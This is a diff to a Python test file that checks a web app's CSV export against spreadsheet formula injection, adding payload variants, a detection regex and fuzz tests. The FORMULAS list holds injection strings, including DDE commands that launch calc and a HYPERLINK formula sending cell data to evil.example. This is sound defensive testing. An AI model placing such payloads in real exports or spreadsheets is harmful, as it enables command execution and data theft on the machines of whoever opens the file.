@@ -3,8 +3,12 @@
 from __future__ import annotations
 
 import ast
+import csv
+import io
 import json
 import os
+import random
+import re
 import shutil
 from collections.abc import Callable
 from collections.abc import Iterator
@@ -15,10 +19,13 @@ from typing import Any
 import pytest
 from click.testing import CliRunner
 from click.testing import Result
+from desk import make_ticket
+from desk import make_topic
 from statements import statements
 
 from townhall import private
 from townhall import secret_key
+from townhall.access.actors import Actor
 from townhall.access.actors import system
 from townhall.accounts import account_links
 from townhall.accounts import passwords
@@ -350,7 +357,8 @@ def test_asking_for_a_new_password_costs_a_stranger_as_much(town: Town, monkeypa
 FORMULAS = [
     "=1+1", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", "'=1", "''=1",
     "＝1+1", "＋1", "－1", "＠x", "a;=cmd()", "a\t=cmd()", "a\n=cmd()", "a;@x", "a\n-1+cmd|' /C calc'!A0", "a;'=x",
-    "a; =x", '=HYPERLINK("https://evil.example?"&A1)',
+    "a; =x", '=HYPERLINK("https://evil.example?"&A1)', 'a;"=HYPERLINK(1+1);b', 'a\t"@SUM(1)\tb', 'a;""=x', 'a\n"=x',
+    "a;＝x", "a;＋1+cmd|' /C calc'!A0", "a;-2\t+cmd|' /C calc'!A0", "a\nb,=x", 'a\nb,"=x', "a;'\"=x",
 ]  # fmt: skip
 PLAIN = [
     "-5",
@@ -361,26 +369,57 @@ PLAIN = [
     "it's",
     "O'Brien; Son",
     "1;-2",
+    'he said "no"; "yes"',
+    "Smith, Ada",
+    "a, b (c)\nd, e",
     "x=1",
     "a@b.c",
 ]
+
+
+#: What a spreadsheet runs: a formula, or a sign before something that does more than count.
+RUNS = re.compile(r" *(?:[=@＝＠]|[+\-＋－][^\r\n]*[|(!])")
+
+
+def formulas(written: str) -> Iterator[tuple[str, str]]:
+    """Cells that would run, by the separator that parts them, also where each line is read by itself."""
+    for separator in ",;\t":
+        for text in (written, *re.split(r"[\r\n]", written)):
+            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+                yield from ((separator, cell) for cell in row if RUNS.match(cell))
 
 
 @pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
 def test_no_cell_is_a_formula_and_every_cell_comes_back(text: str, tmp_path: Path) -> None:
     """Whatever separator the spreadsheet believes in; what was exported is imported as it was."""
     line = csv_line(["a", text, "b"])
-    for separator in ",;\t":
-        for row in line.splitlines():
-            for cell in row.split(separator):
-                bare = cell.strip('" ')
-                assert not bare.startswith(("=", "@", "＝", "＋", "－", "＠")), (separator, cell)
-                assert not (bare.startswith(("+", "-")) and "|" in bare), (separator, cell)
+    assert list(formulas(line)) == []
     assert as_written(harmless(text)) == text
     file = tmp_path / "a.csv"
     file.write_text("x,y,z\n" + line, encoding="utf-8", newline="")
     (row,) = open_csv(file).rows()
     assert row.cells["y"] == text.replace("\r", "\n")
+
+
+def test_no_text_of_any_kind_is_a_formula_and_every_one_comes_back() -> None:
+    """Signs, separators, quotation marks and ends of lines in any order."""
+    chance = random.Random(4)
+    for _ in range(4_000):
+        text = "".join(chance.choices("a1=+-@;,\t\n\r\"' |(＝－", k=chance.randrange(1, 14)))
+        assert list(formulas(csv_line(["a", text, "b"]))) == [], text
+        assert as_written(harmless(text)) == text
+
+
+def test_an_export_that_is_opened_with_semicolons_runs_nothing(town: Town, clerk: Actor) -> None:
+    """What a resident typed behind a semicolon and a quotation mark is text in the list that a clerk downloads."""
+    make_ticket(town, clerk, make_topic(town), summary='a;"=HYPERLINK(1+1);b')
+    people.add(town, system(), "ruth@town.example", name="Ruth", role="administrator", password=PASSWORD)
+    client = create_app(town).test_client()
+    client.application.config["WTF_CSRF_ENABLED"] = False
+    client.post("/admin/sign-in", data={"email": "ruth@town.example", "password": PASSWORD})
+    written = client.get("/admin/desk/ticket/export.csv?view=all").text
+    assert "HYPERLINK" in written
+    assert list(formulas(written)) == []
 
 
 def test_plain_text_is_left_as_it_is() -> None:
